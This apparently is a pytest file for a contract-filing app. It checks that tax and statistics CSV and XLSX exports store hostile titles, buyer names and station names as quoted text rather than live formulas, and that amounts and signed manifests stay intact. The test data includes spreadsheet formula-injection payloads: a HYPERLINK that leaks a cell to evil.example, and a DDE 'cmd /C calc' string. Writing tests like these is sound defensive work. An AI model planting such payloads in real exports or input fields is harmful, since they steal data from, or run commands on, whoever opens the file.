"""Exports safe to open: hostile titles, party names and station names reach the tax office's and the statistics'
CSV and XLSX files as text, never as formulas; amounts stay as they were and the signed manifest still matches."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import re
import zipfile

import pytest
from sqlalchemy import update

from app.domain.clock import today_local
from app.extensions import db
from app.models import Station
from tests.factories import filing

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"打开")'
BUYER = "@SUM(1+1)*cmd|' /C calc'!A0"
STATION = "+邯山区=1+1"
REGISTER = {"category": "development", "subtype": "commissioned", "certified_technical_amount": "1080000.00"}


@pytest.fixture
def reviewer(make_account, api_as):
    return api_as(make_account("reviewer", station_code="130402"))


@pytest.fixture
def hostile_registration(file_contract, reviewer):
    buyer = {**filing()["buyer"], "name": BUYER}
    contract_id = file_contract(title=TITLE, buyer=buyer)
    assert reviewer.post(f"/api/v1/contracts/{contract_id}/accept", json={}).status_code == 200
    response = reviewer.post(f"/api/v1/contracts/{contract_id}/register", json=REGISTER)
    assert response.status_code == 200, response.json
    return response.json


def _download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.data[:300]
    data = response.get_data()
    response.close()
    return data


def _xlsx_parts(data: bytes) -> tuple[str, str]:
    """Every worksheet's XML joined, and the shared strings."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/"))
        strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    return sheets, strings


def test_tax_export_csv_holds_the_hostile_text_as_text(api_as, make_account, hostile_registration):
    tax = api_as(make_account("tax", area_codes=("130402",)))
    query = f"from={today_local()}&to={today_local()}&format=csv"
    data = _download(tax, f"/api/v1/tax/exports?{query}")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    record = dict(zip(rows[1], rows[2]))
    assert record["title"] == "'" + TITLE and record["buyer_name"] == "'" + BUYER
    assert record["amount"] == "1250000.00" and record["certified_technical_amount"] == "1080000.00"
    manifest = tax.get(f"/api/v1/tax/exports/manifest?{query}").json
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()


def test_tax_export_xlsx_holds_no_formula(api_as, make_account, hostile_registration):
    tax = api_as(make_account("tax", area_codes=("130402",)))
    query = f"from={today_local()}&to={today_local()}&format=xlsx"
    data = _download(tax, f"/api/v1/tax/exports?{query}")
    sheets, strings = _xlsx_parts(data)
    assert "<f>" not in sheets and "<f " not in sheets
    text = html.unescape(sheets + strings)  # constant-memory workbooks keep their strings inline
    assert "'" + TITLE in text and "'" + BUYER in text
    manifest = tax.get(f"/api/v1/tax/exports/manifest?{query}").json
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()


def test_statistics_exports_hold_a_hostile_station_name_as_text(app, api_as, make_account, hostile_registration):
    with app.app_context():
        db.session.execute(update(Station).where(Station.code == "130402").values(name=STATION))
        db.session.commit()
    bureau = api_as(make_account("bureau"))
    query = f"/api/v1/stats?year={today_local().year}&group_by=station"
    rows = list(csv.reader(io.StringIO(_download(bureau, query + "&format=csv").decode("utf-8-sig"))))
    station_row = next(row for row in rows if row[0] == "130402")
    assert station_row[1] == "'" + STATION and station_row[3:5] == ["1250000.00", "1080000.00"]
    sheets, strings = _xlsx_parts(_download(bureau, query + "&format=xlsx"))
    assert "<f>" not in sheets and "'" + STATION in html.unescape(strings)
    assert re.search(r"<v>1250000</v>", sheets)  # amounts are still numbers
